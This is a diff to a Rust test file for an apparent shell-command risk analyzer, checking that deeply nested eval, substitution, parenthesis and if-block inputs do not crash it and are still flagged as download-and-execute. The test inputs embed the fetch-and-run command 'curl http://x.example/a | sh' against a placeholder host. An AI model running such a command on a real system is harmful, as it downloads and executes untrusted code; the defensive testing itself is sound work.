@@ -659,16 +659,29 @@ fn bad_scripts_are_tokens_and_never_panic() {
         "echo x; ".repeat(20_000)
     );
     let _ = analyze_line(&big_attack);
-    // Deep nesting stops, doesn't recurse without end.
-    let mut nested = "curl http://x.example/a | sh".to_owned();
-    for _ in 0..40 {
-        nested = format!("sh -c {}", shell_quote(&nested));
-    }
-    let _ = analyze_line(&nested);
-}
-
-fn shell_quote(s: &str) -> String {
-    format!("'{}'", s.replace('\'', "'\\''"))
+    // Deep nesting stops, doesn't recurse without end: 200 nested evals
+    // and 200 nested substitutions.
+    let evals = format!("{}curl http://x.example/a | sh", "eval ".repeat(200));
+    let _ = analyze_line(&evals);
+    let subs = format!(
+        "{}curl http://x.example/a{}",
+        "$(".repeat(200),
+        ")".repeat(200)
+    );
+    let _ = analyze_line(&subs);
+    // Nesting the parser would recurse on: read as tokens, still caught.
+    let deep = format!(
+        "{}curl http://x.example/a | sh{}",
+        "( ".repeat(5_000),
+        " )".repeat(5_000)
+    );
+    assert!(categories(&deep).contains(&DownloadExecute));
+    let ifs = format!(
+        "{}curl http://x.example/a | sh{}",
+        "if true; then ".repeat(3_000),
+        "; fi".repeat(3_000)
+    );
+    assert!(categories(&ifs).contains(&DownloadExecute));
 }
 
 // The fuzz target in fuzz/ runs with cargo-fuzz on nightly; these
